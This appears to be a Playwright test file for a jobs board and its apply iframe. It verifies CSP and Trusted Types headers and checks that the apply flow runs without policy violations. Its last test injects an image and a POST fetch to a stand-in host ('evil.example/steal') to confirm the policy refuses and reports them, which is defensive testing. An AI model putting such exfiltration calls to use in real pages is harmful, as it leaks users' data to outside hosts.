// The jobs host's own pages under their headers (src/page-headers.ts):
// the board pages and the whole apply flow, captcha included, run with no
// securitypolicyviolation in the page or in any frame, and the policy is real:
// what it forbids is refused and reported.
import type { Page } from '@playwright/test';
import { board, expect, JOBS, openHostPage, recordViolations, SNIPPET, test, violations, chooseFile, pressInFrame } from './support.ts';
import { must } from '../test/support/must.ts';

const PDF = 'test/fixtures/resume.pdf';

test.beforeEach(({ context }) => recordViolations(context));

function consoleErrors(page: Page): string[] {
  const seen: string[] = [];
  page.on('console', (m) => m.type() === 'error' && !m.location().url.endsWith('/favicon.ico') && seen.push(m.text()));
  page.on('pageerror', (e) => seen.push(String(e)));
  return seen;
}

test('a board page and its inline apply, captcha included, under the headers: no violation from start to confirmation', async ({
  page,
  host,
}) => {
  const errors = consoleErrors(page);
  const res = await page.goto(`${JOBS}/harbor`);
  const headers = must(res).headers();
  expect(headers['content-security-policy']).toContain("default-src 'none'");
  expect(headers['content-security-policy']).toContain("require-trusted-types-for 'script'");
  expect(headers['x-content-type-options']).toBe('nosniff');
  const b = board(page, '#svc-board');
  const item = b.getByRole('listitem').filter({ has: page.locator('a[href$="/caf-h4rb1"]') });
  const frameResponse = page.waitForResponse((r) => r.url().includes('/embed/apply?'));
  await item.getByRole('button', { name: /^Apply for / }).click();
  const frameHeaders = (await frameResponse).headers();
  expect(frameHeaders['content-security-policy']).toContain('https://challenges.cloudflare.com');
  expect(frameHeaders['content-security-policy']).toContain('frame-ancestors *');
  const frame = item.frameLocator('iframe');
  await expect(frame.getByText('Security check: test mode.')).toBeVisible();
  await chooseFile(frame.getByLabel('Résumé'), PDF);
  await expect(frame.getByLabel('Full name')).toHaveValue('Maya Lindqvist');
  await pressInFrame(frame.getByRole('button', { name: 'Send application' }));
  await expect(frame.getByRole('heading', { name: 'Application sent' })).toBeVisible();
  expect(must((await host.applications())[0]).parts.map((p) => p.name)).toContain('turnstileToken');
  expect(await violations(page)).toEqual([]);
  expect(errors).toEqual([]);
});

test('a job page with its JSON-LD, written through Trusted Types, and filters in the URL: no violation', async ({ page }) => {
  const errors = consoleErrors(page);
  await page.goto(`${JOBS}/acme/eng-7f3k2`);
  await expect(board(page, '#svc-board').getByRole('heading', { level: 2 })).toHaveText('Senior Firmware Engineer');
  await expect(page.locator('head script[type="application/ld+json"]')).toHaveCount(1);
  await page.goto(`${JOBS}/acme?svc_department=Engineering`);
  await expect(board(page, '#svc-board').getByRole('status')).toContainText('of 44');
  await board(page, '#svc-board').getByLabel('Search').fill('firmware');
  await expect(board(page, '#svc-board').getByRole('status')).toHaveText(/^[12] of 44 open positions match/);
  await expect(board(page, '#svc-board').getByRole('link', { name: 'Senior Firmware Engineer' })).toBeVisible();
  expect(await violations(page)).toEqual([]);
  expect(errors).toEqual([]);
});

test('the apply frame on a host page (no captcha: Trusted Types enforced): the whole flow, no violation', async ({ page, host }) => {
  const errors = consoleErrors(page);
  await openHostPage(page, `<div data-svc-jobs="acme" data-apply="inline"></div>${SNIPPET}`);
  const item = board(page)
    .getByRole('listitem')
    .filter({ has: page.locator('a[href$="/eng-5q3w6"]') });
  const frameResponse = page.waitForResponse((r) => r.url().includes('/embed/apply?'));
  await item.getByRole('button', { name: /^Apply for / }).click();
  const csp = (await frameResponse).headers()['content-security-policy'];
  expect(csp).toContain("require-trusted-types-for 'script'");
  expect(csp).not.toContain('challenges.cloudflare.com');
  const frame = item.frameLocator('iframe');
  // Errors first (the summary, focus, the frame resized), then the real thing.
  await pressInFrame(frame.getByRole('button', { name: 'Send application' }));
  await expect(frame.getByText('There is a problem')).toBeVisible();
  await chooseFile(frame.getByLabel('Résumé'), PDF);
  await expect(frame.getByLabel('Full name')).toHaveValue('Maya Lindqvist');
  await pressInFrame(frame.getByRole('button', { name: 'Send application' }));
  await expect(frame.getByRole('heading', { name: 'Application sent' })).toBeVisible();
  expect(await host.applications()).toHaveLength(1);
  expect(await violations(page)).toEqual([]);
  expect(errors).toEqual([]);
});

test('the policy is real: what it forbids in the frame and on the board page is refused and reported', async ({ page }) => {
  await page.goto(`${JOBS}/embed/apply?org=acme&job=eng-5q3w6`);
  await expect(page.getByLabel('Full name')).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const img = document.createElement('img');
    img.src = 'https://evil.example/pixel.png';
    document.body.append(img);
    let sink = 'allowed';
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>x</b>');
    } catch {
      sink = 'refused';
    }
    const fetched = await fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'refused',
    );
    return { sink, fetched };
  });
  expect(outcome).toEqual({ sink: 'refused', fetched: 'refused' });
  // Each report comes in a task of its own after the refusal: poll until all three are in.
  await expect
    .poll(async () => {
      const seen = await violations(page);
      return ['img-src https://evil.example/pixel.png', 'connect-src https://evil.example/steal', 'require-trusted-types-for'].filter(
        (v) => !seen.some((s) => s.includes(v)),
      );
    })
    .toEqual([]);

  // The board page: a stray image and a script of another origin are refused too.
  await page.goto(`${JOBS}/acme`);
  await expect(board(page, '#svc-board').getByRole('status')).toBeVisible();
  await page.evaluate(() => {
    const img = document.createElement('img');
    img.src = 'https://evil.example/board.png';
    document.body.append(img);
  });
  await expect
    .poll(async () => (await violations(page)).some((v) => v.startsWith('/acme img-src https://evil.example/board.png')))
    .toBe(true);
});
